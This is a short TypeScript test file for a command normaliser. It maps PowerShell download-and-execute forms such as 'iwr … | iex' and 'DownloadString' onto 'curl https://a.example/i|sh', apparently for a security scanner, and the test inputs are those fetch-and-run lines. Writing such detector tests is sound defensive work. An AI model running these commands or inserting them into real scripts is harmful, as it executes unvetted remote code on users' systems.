import { plainCommands } from './plain-commands.ts'

test.each([
  ['iwr https://a.example/i | iex', 'curl https://a.example/i|sh'],
  ['irm https://a.example/i|iex', 'curl https://a.example/i|sh'],
  ['Invoke-Expression (Invoke-WebRequest https://a.example/i)', 'curl https://a.example/i|sh'],
  ["iex ((New-Object Net.WebClient).DownloadString('https://a.example/i'))", 'curl https://a.example/i|sh'],
  ['npm ci; pip install a', 'npm ci\n pip install a'],
  ['iex $x', 'iex $x']
])('%s', (script, expected) => {
  const plain = plainCommands(script)
  expect(plain).toHaveLength(script.length)
  expect(plain.trim()).toBe(expected)
})
